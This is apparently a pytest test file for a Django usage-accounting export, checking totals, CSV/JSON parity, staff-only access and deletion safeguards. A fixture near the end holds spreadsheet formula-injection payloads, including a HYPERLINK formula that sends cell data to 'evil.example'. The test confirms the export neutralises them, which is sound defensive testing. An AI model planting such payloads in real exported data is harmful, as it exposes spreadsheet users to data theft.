"""R-ACCT-1: staff export usage per user, group, project or pool per period, as JSON and CSV,
equal to the charges, at a constant number of queries."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command

from apps.allocations.models import Charge, ChargeKind

pytestmark = pytest.mark.django_db

NOVEMBER = datetime(2026, 11, 10, 12, tzinfo=UTC)


@pytest.fixture
def ledger(qpu, owner, member, team, grant):
    """Charges in November 2026 for two projects, one with no project, and one in October."""
    mine = grant(qpu, name="lattice", user=owner, device_seconds=10_000, core_hours=100)
    theirs = grant(qpu, name="qsim", group=team, device_seconds=10_000)

    def charge(user, allocation, *, device=0.0, cores=0.0, at=NOVEMBER):
        kind = ChargeKind.JOB if device else ChargeKind.CASE
        return Charge.objects.create(
            kind=kind,
            allocation=allocation,
            pool=qpu,
            user=user,
            device_seconds=device,
            core_hours=cores,
            charged_at=at,
        )

    charge(owner, mine, device=120)
    charge(owner, mine, device=30.5)
    charge(owner, mine, cores=2.25)
    charge(member, theirs, device=60)
    charge(member, None, device=7)
    charge(owner, mine, device=1000, at=datetime(2026, 10, 31, 23, tzinfo=UTC))
    return mine, theirs


def rows_of(answer):
    return {row["key"]: row for row in answer.data["rows"]}


def test_usage_per_user_equals_the_charges(ledger, staff, api, owner, member):
    answer = api(staff).get("/api/v1/accounting/usage/?group_by=user&period=month&month=2026-11")
    assert answer.status_code == 200, answer.content
    rows = rows_of(answer)
    assert set(rows) == {"owner", "member"}
    assert rows["owner"]["device_seconds"] == 150.5
    assert rows["owner"]["core_hours"] == 2.25
    assert (rows["owner"]["jobs"], rows["owner"]["cases"]) == (2, 1)
    assert rows["member"]["device_seconds"] == 67
    assert all(row["period"] == "2026-11" for row in rows.values())
    november = Charge.objects.filter(charged_at__month=11)
    assert sum(r["device_seconds"] for r in rows.values()) == sum(november.values_list("device_seconds", flat=True))


def test_usage_per_project_group_and_pool(ledger, staff, api):
    mine, theirs = ledger
    projects = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=project&month=2026-11"))
    assert projects["lattice"]["project_id"] == mine.pk and projects["lattice"]["device_seconds"] == 150.5
    assert projects["qsim"]["device_seconds"] == 60
    assert projects[""]["device_seconds"] == 7  # no project: a pool without allocations
    groups = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=group&month=2026-11"))
    assert groups["team"]["device_seconds"] == 60
    pools = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=pool&month=2026-11"))
    assert pools["qpu"]["device_seconds"] == 217.5 and pools["qpu"]["jobs"] == 4


def test_a_charge_at_the_first_instant_of_a_month_counts_in_that_month_only(ledger, staff, api, owner, qpu):
    """Each charge is in exactly one month's export: November ends before December's first instant."""
    mine, _theirs = ledger
    for at in (datetime(2026, 12, 1, tzinfo=UTC), datetime(2026, 12, 1, 12, tzinfo=UTC)):
        Charge.objects.create(
            kind=ChargeKind.JOB, allocation=mine, pool=qpu, user=owner, device_seconds=500, charged_at=at
        )
    november = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=user&month=2026-11"))
    december = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=user&month=2026-12"))
    assert november["owner"]["device_seconds"] == 150.5
    assert (december["owner"]["device_seconds"], december["owner"]["jobs"]) == (1000, 2)


def test_csv_export_matches_the_json(ledger, staff, api):
    url = "/api/v1/accounting/usage/?group_by=user&month=2026-11"
    as_json = api(staff).get(url).data["rows"]
    by_param = api(staff).get(url + "&format=csv")
    by_accept = api(staff).get(url, HTTP_ACCEPT="text/csv")
    for answer in (by_param, by_accept):
        assert answer.status_code == 200
        assert answer["Content-Type"].startswith("text/csv")
        parsed = list(csv.DictReader(io.StringIO(answer.content.decode())))
        assert [row["key"] for row in parsed] == [row["key"] for row in as_json]
        assert [float(row["device_seconds"]) for row in parsed] == [row["device_seconds"] for row in as_json]
        assert [float(row["core_hours"]) for row in parsed] == [row["core_hours"] for row in as_json]
        assert [int(row["jobs"]) for row in parsed] == [row["jobs"] for row in as_json]


def test_usage_export_is_staff_only(ledger, owner, api):
    assert api(owner).get("/api/v1/accounting/usage/").status_code == 403
    assert api(None).get("/api/v1/accounting/usage/").status_code in (401, 403)


@pytest.mark.parametrize(
    "query", ["group_by=nobody", "period=year", "month=2026-13", "month=soon", "since=2026-12-01&until=2026-11-01"]
)
def test_bad_parameters_are_400(staff, api, query):
    answer = api(staff).get(f"/api/v1/accounting/usage/?{query}")
    assert answer.status_code == 400, answer.content


def test_usage_export_costs_the_same_queries_whatever_the_charges(
    ledger, staff, api, qpu, owner, django_assert_max_num_queries
):
    client = api(staff)
    client.get("/api/v1/accounting/usage/?group_by=project&month=2026-11")  # warm: the token, the session
    with django_assert_max_num_queries(3):
        client.get("/api/v1/accounting/usage/?group_by=project&month=2026-11")
    Charge.objects.bulk_create(
        Charge(kind=ChargeKind.JOB, pool=qpu, user=owner, device_seconds=1, charged_at=NOVEMBER) for _ in range(200)
    )
    with django_assert_max_num_queries(3):
        answer = client.get("/api/v1/accounting/usage/?group_by=project&month=2026-11")
    assert rows_of(answer)[""]["jobs"] == 201


def test_export_usage_command_writes_the_same_rows(ledger, staff, api, capsys):
    as_json = api(staff).get("/api/v1/accounting/usage/?group_by=user&month=2026-11").data["rows"]
    call_command("export_usage", "--month", "2026-11", "--group-by", "user", "--format", "json")
    assert json.loads(capsys.readouterr().out)["rows"] == as_json
    call_command("export_usage", "--month", "2026-11")
    parsed = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["key"] for row in parsed] == [row["key"] for row in as_json]


def test_deleting_a_pool_keeps_its_charges(ledger, staff, api, admin_client, qpu):
    """The ledger outlives the jobs and sessions ``cleanup`` prunes, and so the last thing that
    kept a pool from being deleted: deleting it must not take its charges (the usage reports of
    past months) with it. Refused (409; the admin lists what protects it) while it has charges."""
    before = Charge.objects.count()
    answer = api(staff).delete(f"/api/v1/resource-pools/{qpu.pk}/")
    assert answer.status_code == 409, answer.content
    admin_client.post(f"/admin/resources/resourcepool/{qpu.pk}/delete/", {"post": "yes"})
    assert Charge.objects.count() == before
    assert api(staff).get("/api/v1/accounting/usage/?group_by=pool&month=2026-11").data["rows"][0]["key"] == "qpu"


def test_deleting_a_charged_allocation_or_its_group_keeps_the_projects_usage(ledger, staff, api, admin_client, team):
    """A grant that was charged is ended (its dates), not deleted: deleting it, or the group it
    was granted to, would leave its charges with no project, and the per-project and per-group
    reports of past months would lose them."""
    mine, theirs = ledger
    admin_client.post(f"/admin/allocations/allocation/{theirs.pk}/delete/", {"post": "yes"})
    admin_client.post(f"/admin/auth/group/{team.pk}/delete/", {"post": "yes"})
    projects = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=project&month=2026-11"))
    groups = rows_of(api(staff).get("/api/v1/accounting/usage/?group_by=group&month=2026-11"))
    assert projects["qsim"]["device_seconds"] == 60 and groups["team"]["device_seconds"] == 60


FORMULAS = {
    "user": "-2+3",  # Django's username rule allows - + @ first (the admin, link_identity)
    "group": "@SUM(1+1)",
    "project": '=HYPERLINK("https://evil.example/?"&A2,"Details")',
    "pool": "+cmd",
}


@pytest.fixture
def formula_names(qpu, grant, django_user_model):
    """A user, group, project and pool named like spreadsheet formulas, with one charge."""
    user = django_user_model.objects.create_user(FORMULAS["user"])
    group = Group.objects.create(name=FORMULAS["group"])
    qpu.name = FORMULAS["pool"]
    qpu.save(update_fields=["name"])
    allocation = grant(qpu, name=FORMULAS["project"], group=group, device_seconds=100)
    Charge.objects.create(
        kind=ChargeKind.JOB, allocation=allocation, pool=qpu, user=user, device_seconds=-1.5, charged_at=NOVEMBER
    )


@pytest.mark.parametrize("group_by", list(FORMULAS))
def test_csv_export_quotes_names_a_spreadsheet_would_run_as_formulas(formula_names, staff, api, capsys, group_by):
    """Finance opens the CSV in a spreadsheet: a name starting with = + - @ is shown as text
    (a leading '), in the API's CSV and the command's; the JSON keeps the name, and figures
    (a negative one included) are not touched."""
    url = f"/api/v1/accounting/usage/?group_by={group_by}&month=2026-11"
    assert api(staff).get(url).data["rows"][0]["key"] == FORMULAS[group_by]
    answer = api(staff).get(url + "&format=csv")
    call_command("export_usage", "--month", "2026-11", "--group-by", group_by)
    for text in (answer.content.decode(), capsys.readouterr().out):
        (row,) = csv.DictReader(io.StringIO(text))
        assert row["key"] == "'" + FORMULAS[group_by]
        assert row["device_seconds"] == "-1.5"


@pytest.mark.parametrize("path", ["/api/v1/accounting/usage/", "/api/v1/accounting/"])
def test_a_positive_utc_offset_typed_unescaped_in_the_query_string_is_read_as_that_offset(ledger, staff, api, path):
    """'+' in a query string is a space: ``?since=2026-11-01T00:00:00+01:00`` typed as is was a 400
    ("Use an ISO 8601 date-time") although it is one, while ``-01:00`` and ``Z`` were read."""
    plus = api(staff).get(f"{path}?since=2026-11-01T00:00:00+01:00&until=2026-12-01T00:00:00+01:00")
    assert plus.status_code == 200, plus.content
    assert (plus.data["since"], plus.data["until"]) == ("2026-10-31T23:00:00Z", "2026-11-30T23:00:00Z")
